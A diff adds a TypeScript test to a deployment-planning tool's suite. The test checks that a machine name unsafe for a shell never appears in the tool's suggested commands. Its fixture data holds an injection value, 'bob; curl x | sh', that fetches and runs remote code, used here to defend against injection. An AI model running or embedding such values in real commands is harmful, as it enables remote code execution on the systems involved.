@@ -83,3 +83,15 @@ test("a taken host is named in the plan", async () => {
   const { machines } = await plan([desired], { transport, takeover: ["store"] });
   expect(machines[0]).toMatchObject({ status: "change", runs: "store", diagnostics: [] });
 });
+
+test("a name that a shell would not read as one word is in no command of the advice", async () => {
+  const [, desired] = hosts[0]!;
+  const stdout = ["troupe-agent\t1", "machine\tbob; curl x | sh", "end\tok", ""].join("\n");
+  const transport = {
+    exec: () => Promise.resolve({ code: 0, stdout, stderr: "", timedOut: false }),
+    close: () => Promise.resolve(),
+  };
+  const { machines } = await plan([desired], { transport });
+  const [other] = machines[0]!.diagnostics;
+  expect(other).toMatchObject({ code: "TRP5230", hint: expect.not.stringContaining("troupe apply") });
+});
